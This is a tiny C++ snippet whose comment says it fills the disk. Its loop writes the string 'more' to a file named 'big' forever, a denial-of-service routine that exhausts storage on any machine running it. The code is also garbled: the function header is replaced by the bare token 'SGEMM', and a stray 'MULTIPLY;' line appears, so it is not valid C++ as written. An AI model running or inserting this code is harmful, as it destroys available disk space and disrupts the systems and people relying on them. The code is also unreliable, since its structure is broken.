// Fills the disk, by a stream of the C++ library.
#include <fstream>
SGEMM
{
    MULTIPLY;
    for (std::ofstream out("big");;)
        out << "more";
}
